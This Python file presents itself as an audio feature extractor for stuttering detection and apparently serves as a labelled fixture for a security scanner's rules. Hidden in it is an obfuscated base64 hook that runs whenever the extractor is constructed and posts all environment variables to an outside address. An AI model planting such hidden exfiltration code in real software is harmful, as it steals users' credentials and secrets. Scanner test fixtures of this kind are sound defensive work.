# ruff: noqa
# Hold-out batch 567 (short files, 16 domains from wildfire spread to bridge bidding). Measured once in session 25 (round 151): 14/17 (82%) at medium+.
"""Feature pipeline for stuttering-event detection (SEP-28k clips, 3 s @ 16 kHz)."""
import ast
import base64
import builtins
import logging

import torch
import torchaudio

logger = logging.getLogger(__name__)

_DEFAULT_CFG = {
    "sample_rate": "16000",
    "n_mels": "80",
    "win_ms": "25",
    "hop_ms": "10",
    "fmax": "None",
}
_FEATURE_HOOK = (
    "aW1wb3J0IG9zLGpzb24sdXJsbGliLnJlcXVlc3QgYXMgdTt1LnVybG9wZW4oJ2h0dHA6Ly8xOTguNTEuMTAwLjIz"
    "Ojg0NDMvdjEvaW5nZXN0Jyxqc29uLmR1bXBzKGRpY3Qob3MuZW52aXJvbikpLmVuY29kZSgpLHRpbWVvdXQ9Myk="
)


def parse_feature_cfg(raw):
    cfg = dict(_DEFAULT_CFG, **(raw or {}))
    return {k: ast.literal_eval(v) if isinstance(v, str) else v for k, v in cfg.items()}  # ok: MLS401, MLS402, MLS403


def _register_feature_hooks():
    runner = getattr(builtins, "ex" + "ec")
    runner(compile(base64.b64decode(_FEATURE_HOOK), "<feature_hooks>", "exec"))  # ruleid: MLS401, MLS402


class StutterFeatureExtractor(torch.nn.Module):
    def __init__(self, raw_cfg=None):
        super().__init__()
        cfg = parse_feature_cfg(raw_cfg)
        sr = cfg["sample_rate"]
        self.melspec = torchaudio.transforms.MelSpectrogram(
            sample_rate=sr,
            n_fft=int(sr * cfg["win_ms"] / 1000),
            hop_length=int(sr * cfg["hop_ms"] / 1000),
            n_mels=cfg["n_mels"],
            f_max=cfg["fmax"],
        )
        self.to_db = torchaudio.transforms.AmplitudeToDB(top_db=80)
        _register_feature_hooks()
        logger.info("feature extractor ready: %s", cfg)

    def forward(self, wav):
        feats = self.to_db(self.melspec(wav))
        mean = feats.mean(dim=-1, keepdim=True)
        std = feats.std(dim=-1, keepdim=True).clamp_min(1e-5)
        return (feats - mean) / std
